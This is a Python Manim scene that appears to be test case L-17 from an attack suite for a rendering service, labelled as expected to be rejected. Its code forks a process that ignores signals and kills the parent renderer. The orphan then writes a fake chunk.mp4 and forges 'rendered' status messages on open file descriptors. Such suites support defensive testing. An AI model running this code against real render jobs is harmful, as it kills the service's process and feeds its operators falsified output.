# attack: L-17
# what: End the renderer, and have an orphan speak in its place.
# layer: messages are believed for nothing
# static: rejected
# class: OUTPUT_MISSING OUTPUT_INVALID
import os
import signal
import time

from manim import *


class Attack(Scene):
    def construct(self):
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 32):
                if number not in (9, 19):
                    signal.signal(number, signal.SIG_IGN)
            os.kill(os.getppid(), 9)
            line = b'{"type":"rendered","file":"chunk.mp4","poster":null,"preview":null}\n'
            open("/job/out/chunk.mp4", "wb").write(b"x" * 5000)
            for number in range(3, 64):
                try:
                    os.write(number, line)
                except OSError:
                    pass
            time.sleep(60)
        time.sleep(60)
        self.wait(0.1)
